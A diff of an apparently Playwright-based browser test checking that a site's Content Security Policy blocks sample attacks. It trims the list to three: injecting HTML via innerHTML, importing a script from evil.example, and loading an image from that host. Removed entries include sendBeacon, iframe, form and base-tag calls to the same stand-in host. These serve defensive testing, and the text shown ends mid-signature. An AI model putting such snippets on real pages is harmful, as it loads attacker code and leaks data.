@@ -1,42 +1,19 @@
 import { expect, test } from '../setup/site-test.ts';
 
-// Not in TypeScript's own library yet.
-type TrustedTypePolicies = {
-  createPolicy: (name: string, rules: { createHTML: (text: string) => string }) => unknown;
-};
-
-// What an attacker would do with a vulnerability, by the directive that stops it.
+// What an attacker would do with a vulnerability, by the directive that stops it. All directives:
+// site/policy.test.ts.
 const attacks: Record<string, () => unknown> = {
   'require-trusted-types-for': () => {
     document.body.innerHTML = '<p>Send your gift to 000000</p>';
-  },
-  'trusted-types': () => {
-    const { trustedTypes } = window as unknown as { trustedTypes: TrustedTypePolicies };
-    trustedTypes.createPolicy('any', { createHTML: (text) => text });
   },
   'script-src-elem': async () => {
     const address = 'https://evil.example/module.js';
     await import(address).catch(() => undefined);
   },
-  'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
   'img-src': () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }),
-  'connect-src': () => navigator.sendBeacon('https://evil.example/'),
-  'frame-src': () => {
-    const src = 'https://evil.example/';
-    document.body.append(Object.assign(document.createElement('iframe'), { src }));
-  },
-  'form-action': () => {
-    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
-    document.body.append(form);
-    form.submit();
-  },
-  'base-uri': () => {
-    const href = 'https://evil.example/';
-    document.head.append(Object.assign(document.createElement('base'), { href }));
-  },
 };
 
-test('the browser stops what each directive is for [fault 52]', async ({
+test('the browser stops markup, a script and a picture that a page should not have', async ({
   page,
   expectedErrors,
   allowedOutside,
